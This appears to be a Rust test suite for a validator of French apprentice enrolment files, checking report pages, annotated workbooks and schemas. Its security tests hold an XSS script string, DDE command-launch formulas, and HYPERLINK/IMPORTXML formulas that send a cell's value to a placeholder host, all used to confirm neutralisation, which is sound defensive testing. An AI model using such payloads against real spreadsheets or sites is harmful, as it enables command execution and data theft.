@@ -1,0 +1,421 @@
+//! The answer to each rejected file as a person reads it, and the promises of the workbooks.
+//!
+//! `BLESS=1 cargo test -p validate` writes the expected files anew.
+
+use std::fs;
+use std::path::{Path, PathBuf};
+
+use domain::validate::{How, Report, Verdict, what_changed};
+use domain::vocabulary::organisation::Listed;
+use domain::vocabulary::{KeySecret, Organisation, Reference};
+use rust_xlsxwriter::Workbook;
+
+use super::*;
+use crate::check::check;
+
+fn tests_folder() -> PathBuf {
+    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests")
+}
+
+/// Compares with the file of that name, or writes it when asked to.
+fn expect(name: &str, text: &str) {
+    let path = tests_folder().join("expected").join(name);
+    if std::env::var_os("BLESS").is_some() {
+        fs::create_dir_all(path.parent().unwrap()).unwrap();
+        fs::write(&path, text).unwrap();
+    }
+    let expected = fs::read_to_string(&path).unwrap_or_default();
+    assert!(text == expected, "{name} is not what is expected; it is now:\n{text}");
+}
+
+/// The circumstances of every test: one sender, two listed organisations.
+struct World {
+    secret: KeySecret,
+    sender: Organisation,
+    reference: Reference,
+}
+
+impl World {
+    fn new() -> Self {
+        let sender: Organisation = "0022189U-39504180900041".parse().unwrap();
+        let other: Organisation = "0031133R-30540504500991".parse().unwrap();
+        let listed = [sender, other].map(|organisation| Listed {
+            organisation,
+            name: String::new(),
+            nature: String::new(),
+            department: String::new(),
+            commune: String::new(),
+        });
+        Self { secret: KeySecret::new(&[7; 32]), sender, reference: Reference::new(listed) }
+    }
+
+    fn circumstances<'a>(&'a self, file_name: &'a str) -> Circumstances<'a> {
+        Circumstances {
+            file_name,
+            sender: Some(self.sender),
+            school_year: Some("2026-2027".parse().unwrap()),
+            today: "2026-11-22".parse().unwrap(),
+            secret: &self.secret,
+            reference: Some(&self.reference),
+        }
+    }
+
+    fn judge(&self, name: &str, bytes: &[u8]) -> Report {
+        check(bytes, &self.circumstances(name), &mut |_, _| {})
+    }
+
+    fn workbooks(&self, name: &str, bytes: &[u8]) -> Option<workbook::Workbooks> {
+        workbook::workbooks(bytes, &self.circumstances(name)).unwrap()
+    }
+
+    fn page(&self, name: &str, bytes: &[u8]) -> String {
+        let context = html::AnswerContext {
+            today: "2026-11-22".parse().unwrap(),
+            changes: None,
+            annotated: Some(ANNOTATED),
+            set_aside: Some(SET_ASIDE),
+            deposit: Some("/deposer/"),
+        };
+        html::html(&self.judge(name, bytes), &context)
+    }
+}
+
+fn rejected() -> Vec<(String, Vec<u8>)> {
+    let folder = fs::read_dir(tests_folder().join("fixtures/rejected")).unwrap();
+    let mut files: Vec<_> = folder
+        .map(|entry| {
+            let path = entry.unwrap().path();
+            (path.file_name().unwrap().to_str().unwrap().to_owned(), fs::read(&path).unwrap())
+        })
+        .collect();
+    files.sort();
+    files
+}
+
+fn accepted() -> Vec<u8> {
+    fs::read(tests_folder().join("fixtures/accepted/two_learners.csv")).unwrap()
+}
+
+/// The text of a page, without its head: one line for each block.
+fn text_of(page: &str) -> String {
+    let (_, body) = page.split_once("<main>").unwrap();
+    let mut text = String::new();
+    for piece in body.split('<') {
+        let (tag, words) = piece.split_once('>').unwrap_or(("", piece));
+        if tag.starts_with("td") || tag.starts_with("dd") {
+            text.push_str(" | ");
+        }
+        text.push_str(words);
+    }
+    let unescaped = text.replace("&quot;", "\"").replace("&#39;", "'").replace("&amp;", "&");
+    let lines = unescaped.lines().map(str::trim).filter(|line| !line.is_empty());
+    lines.flat_map(|line| [line, "\n"]).collect()
+}
+
+#[test]
+fn each_rejected_file_has_its_answer() {
+    let world = World::new();
+    for (name, bytes) in rejected() {
+        let page = text_of(&world.page(&name, &bytes));
+        // The list of columns is long and always the same.
+        let told = page.split_once("\nA nom_apprenant\n").map_or(&*page, |(told, _)| told);
+        expect(
+            &format!("reports/{}", name.replace(".csv", ".txt")),
+            &format!("{}\n", told.trim_end()),
+        );
+    }
+}
+
+#[test]
+fn a_page_is_whole_and_needs_nothing_else() {
+    let world = World::new();
+    let page = world.page("two_learners.csv", &accepted());
+    expect("reports/two_learners.html", &page);
+    assert_eq!(page.matches("<h1>").count(), 1);
+    for forbidden in ["<script", "http://", "https://", "url(", "<img", "<link"] {
+        assert!(!page.contains(forbidden), "{forbidden}");
+    }
+}
+
+#[test]
+fn what_comes_from_the_file_is_text() {
+    let world = World::new();
+    let header = "<script>alert(1)</script>\"'&\u{202e}";
+    let list = String::from_utf8(accepted()).unwrap();
+    let list = list.lines().flat_map(|line| [line, ";", header, "\n"]).collect::<String>();
+    let page = world.page("<b>\".csv", list.as_bytes());
+    assert!(!page.contains("<script") && !page.contains("<b>\"") && !page.contains('\u{202e}'));
+    assert!(
+        page.contains(
+            "« &lt;script&gt;alert(1)&lt;/script&gt;&quot;&#39;&amp; »"
+                .replace("« ", "«\u{a0}")
+                .replace(" »", "\u{a0}»")
+                .as_str()
+        )
+    );
+}
+
+#[test]
+fn the_annotated_sheet_is_judged_as_the_file_was() {
+    let world = World::new();
+    let mut with_notes = 0;
+    for (name, bytes) in rejected() {
+        let Some(workbooks) = world.workbooks(&name, &bytes) else { continue };
+        let (before, after) =
+            (world.judge(&name, &bytes), world.judge(ANNOTATED, &workbooks.annotated));
+        assert_eq!(after.verdict, before.verdict, "{name}");
+        assert_eq!(after.rows, before.rows, "{name}");
+        assert_eq!(after.summary, before.summary, "{name}");
+        let added = [workbook::PROBLEM, workbook::FIX].map(str::to_owned);
+        assert!(after.columns.ignored.ends_with(&added), "{name}");
+        assert_eq!(workbooks.set_aside.is_some(), before.rows.set_aside > 0, "{name}");
+        if let Some(set_aside) = workbooks.set_aside {
+            let rows = world.judge(SET_ASIDE, &set_aside).rows;
+            assert_eq!((rows.read, rows.set_aside), (before.rows.set_aside, rows.read), "{name}");
+        }
+        with_notes += 1;
+    }
+    assert!(with_notes > 40, "{with_notes} workbooks");
+}
+
+#[test]
+fn the_same_file_gives_the_same_bytes() {
+    let world = World::new();
+    for (name, bytes) in rejected() {
+        let circumstances = world.circumstances(&name);
+        let answer = || files(&world.judge(&name, &bytes), &bytes, &circumstances, None).unwrap();
+        let first = answer();
+        assert_eq!(first, answer(), "{name}");
+        assert_eq!(first[0].name, PAGE);
+    }
+    assert_eq!(template::template().unwrap(), template::template().unwrap());
+}
+
+/// Every part of a workbook, as text.
+fn parts(workbook: &[u8]) -> String {
+    use std::io::Read as _;
+    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(workbook)).unwrap();
+    let mut text = String::new();
+    for place in 0..archive.len() {
+        archive.by_index(place).unwrap().read_to_string(&mut text).unwrap();
+    }
+    text
+}
+
+#[test]
+fn no_formula_leaves_with_us() {
+    let world = World::new();
+    let list = String::from_utf8(accepted()).unwrap();
+    let mut lines = list.lines();
+    let header = lines.next().unwrap();
+    let row = lines.next().unwrap();
+    let (_, after_name) = row.split_once(';').unwrap();
+    for formula in [
+        "=1+1",
+        "=cmd|' /C calc'!A0",
+        "+1+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!D2",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "=HYPERLINK(\"\"https://exemple.fr?x=\"\"&A1)",
+        "\t=1+1",
+        "\r=1+1",
+        "=IMPORTXML(CONCAT(\"\"https://exemple.fr/\"\",A1))",
+    ] {
+        // In a name, in a header that is ignored, in a cell under it.
+        let list =
+            format!("{header};\"{formula}\"\n\"{formula}\";{after_name};\"{formula}\"\n{row};");
+        let workbooks = world.workbooks("liste.csv", list.as_bytes()).unwrap();
+        for workbook in [Some(workbooks.annotated), workbooks.set_aside].into_iter().flatten() {
+            let xml = parts(&workbook);
+            assert!(!xml.contains("<f>") && !xml.contains("<f "), "{formula}");
+            let begins = formula.trim_start().replace("\"\"", "\"");
+            let begins = begins.replace('&', "&amp;");
+            assert!(!xml.contains(&format!(">{begins}<")), "{formula}");
+        }
+    }
+}
+
+#[test]
+fn a_neutralised_cell_is_read_as_it_was() {
+    let world = World::new();
+    let list = String::from_utf8(accepted()).unwrap();
+    let mut rows: Vec<Vec<String>> =
+        list.lines().map(|line| line.split(';').map(str::to_owned).collect()).collect();
+    let place = rows[0].iter().position(|header| header == "tel_apprenant").unwrap();
+    rows[1][place] = "+33612345678".to_owned();
+    let sexe = rows[0].iter().position(|header| header == "sexe_apprenant").unwrap();
+    rows[2][sexe] = "X".to_owned();
+    let list: String = rows.iter().map(|row| row.join(";") + "\n").collect();
+    let workbooks = world.workbooks("liste.csv", list.as_bytes()).unwrap();
+    assert!(
+        parts(&workbooks.annotated).contains("&apos;+33612345678")
+            || parts(&workbooks.annotated).contains("'+33612345678")
+    );
+    let report = world.judge(ANNOTATED, &workbooks.annotated);
+    assert_eq!(report.summary, world.judge("liste.csv", list.as_bytes()).summary);
+}
+
+#[test]
+fn the_social_security_number_does_not_come_back() {
+    let world = World::new();
+    let list = String::from_utf8(accepted()).unwrap();
+    let mut lines = list.lines();
+    let mut with_nir = format!("{};NIR;N° de sécurité sociale\n", lines.next().unwrap());
+    for line in lines {
+        with_nir.extend([line, ";206037512345678;206037512345678\n"]);
+    }
+    let workbooks = world.workbooks("liste.csv", with_nir.as_bytes()).unwrap();
+    let xml = parts(&workbooks.annotated);
+    assert!(!xml.contains("206037512345678"));
+    assert!(xml.contains("Colonne retirée"));
+    let report = world.judge(ANNOTATED, &workbooks.annotated);
+    assert!(report.summary.iter().all(|group| group.rule != "nir_is_absent"));
+}
+
+/// Titles above, dates of 1904 under a header lower down: lines and days stay what they were.
+#[test]
+fn a_workbook_comes_back_with_its_lines_and_its_days() {
+    let world = World::new();
+    let list = String::from_utf8(accepted()).unwrap();
+    let mut book = Workbook::new();
+    let sheet = book.add_worksheet();
+    sheet.write_string(0, 0, "Effectifs").unwrap();
+    let date = rust_xlsxwriter::Format::new().set_num_format("dd/mm/yyyy");
+    for (line, row) in (3..).zip(list.lines()) {
+        for (place, cell) in (0..).zip(row.split(';')) {
+            match cell.parse::<domain::vocabulary::Day>() {
+                Ok(day) => {
+                    let serial = day.epoch_days() + 25_569;
+                    sheet.write_number_with_format(line, place, serial, &date).unwrap();
+                }
+                Err(_) => drop(sheet.write_string(line, place, cell).unwrap()),
+            }
+        }
+    }
+    sheet.write_string(5, 3, "X").unwrap();
+    let bytes = book.save_to_buffer().unwrap();
+    let before = world.judge("liste.xlsx", &bytes);
+    assert_eq!(before.file.header_line, Some(4));
+    let workbooks = world.workbooks("liste.xlsx", &bytes).unwrap();
+    let after = world.judge(ANNOTATED, &workbooks.annotated);
+    assert_eq!(after.file.header_line, Some(4));
+    assert_eq!((after.rows, after.summary), (before.rows, before.summary));
+}
+
+#[test]
+fn the_template_is_read_as_it_was_meant() {
+    let world = World::new();
+    let bytes = template::template().unwrap();
+    let report = world.judge(template::NAME, &bytes);
+    let rules: Vec<&str> = report.summary.iter().map(|group| group.rule).collect();
+    assert_eq!(rules, ["file_has_rows"]);
+    assert_eq!(report.file.sheet.as_deref(), Some("Modèle"));
+    assert_eq!(report.columns.recognised.len(), 64);
+    assert!(report.columns.recognised.iter().all(|recognised| recognised.how == How::Exact));
+    assert!(report.columns.ignored.is_empty());
+    let xml = parts(&bytes);
+    assert!(
+        xml.contains("<dataValidation ") && xml.contains("\"F,M\"")
+            || xml.contains("&quot;F,M&quot;")
+    );
+}
+
+#[test]
+fn the_schemas_are_published_as_expected() {
+    expect("schemas/effectifs.tableschema.json", &schema::table_schema());
+    expect("schemas/effectifs.schema.json", &schema::json_schema());
+    expect("schemas/exemple-valide.csv", &schema::valid_example());
+    expect("schemas/exemple-invalide.csv", &schema::invalid_example());
+}
+
+#[test]
+fn the_examples_are_what_they_say() {
+    let world = World::new();
+    let valid = world.judge("exemple.csv", schema::valid_example().as_bytes());
+    assert_eq!((valid.findings, valid.rows.accepted), (vec![], 2));
+    let invalid = world.judge("exemple.csv", schema::invalid_example().as_bytes());
+    assert_eq!((invalid.verdict, invalid.rows.set_aside), (Verdict::Refused, 3));
+    let rules: Vec<&str> = invalid.findings.iter().map(|finding| finding.rule).collect();
+    assert_eq!(
+        rules,
+        ["most_rows_are_kept", "siret_is_well_formed", "date_is_readable", "sex_is_known"]
+    );
+}
+
+/// What the Table Schema says of each cell, by hand: enough to see that it and the rules agree.
+fn breaks(csv: &str) -> Vec<String> {
+    let schema: serde_json::Value = serde_json::from_str(&schema::table_schema()).unwrap();
+    let fields = schema["fields"].as_array().unwrap();
+    let mut lines = csv.trim_start_matches('\u{feff}').lines();
+    let headers: Vec<&str> = lines.next().unwrap().split(';').collect();
+    let mut broken = Vec::new();
+    for (number, line) in (2..).zip(lines) {
+        for (header, cell) in headers.iter().zip(line.split(';')) {
+            let field = fields.iter().find(|field| field["name"] == *header).unwrap();
+            let constraints = &field["constraints"];
+            let conforms = if cell.is_empty() {
+                constraints["required"] == false
+            } else {
+                let matches =
+                    |pattern: &str| regex_lite::Regex::new(pattern).unwrap().is_match(cell);
+                let codes = constraints["enum"].as_array();
+                let number = cell.parse::<u64>();
+                constraints["pattern"].as_str().is_none_or(matches)
+                    && codes.is_none_or(|codes| codes.iter().any(|code| code == cell))
+                    && match field["type"].as_str().unwrap() {
+                        "date" => cell.parse::<domain::vocabulary::Day>().is_ok(),
+                        "integer" => number.is_ok_and(|number| {
+                            number >= constraints["minimum"].as_u64().unwrap()
+                                && number <= constraints["maximum"].as_u64().unwrap()
+                        }),
+                        "boolean" => ["OUI", "NON"].contains(&cell),
+                        _ => true,
+                    }
+            };
+            if !conforms {
+                broken.push(format!("line {number}, {header}"));
+            }
+        }
+    }
+    broken
+}
+
+#[test]
+fn what_is_accepted_conforms_to_the_schema_and_what_is_not_does_not() {
+    assert_eq!(breaks(&String::from_utf8(accepted()).unwrap()), [""; 0]);
+    assert_eq!(breaks(&schema::valid_example()), [""; 0]);
+    assert_eq!(
+        breaks(&schema::invalid_example()),
+        [
+            "line 2, etablissement_formateur_siret",
+            "line 3, date_fin_formation",
+            "line 4, sexe_apprenant"
+        ]
+    );
+}
+
+#[test]
+fn every_code_of_a_report_is_in_the_schema() {
+    let world = World::new();
+    let codes = domain::validate::schema::rule_codes();
+    for (name, bytes) in rejected() {
+        for group in world.judge(&name, &bytes).summary {
+            assert!(codes.iter().any(|rule| rule.code == group.rule), "{}", group.rule);
+        }
+    }
+}
+
+#[test]
+fn the_page_says_what_changed() {
+    let world = World::new();
+    let bytes = accepted();
+    let circumstances = world.circumstances("liste.csv");
+    let mut records = Vec::new();
+    let report = check(&bytes, &circumstances, &mut |record, _| records.push(record));
+    let mode = domain::upload::Mode::Complete;
+    let changes = what_changed(&records[..1], &records, mode, circumstances.today);
+    let files = files(&report, &bytes, &circumstances, Some(&changes)).unwrap();
+    assert_eq!(files.len(), 1, "nothing to correct, no workbook");
+    let page = String::from_utf8(files[0].bytes.clone()).unwrap();
+    assert!(page.contains("1 apprenant de plus que dans votre dernier envoi."));
+}
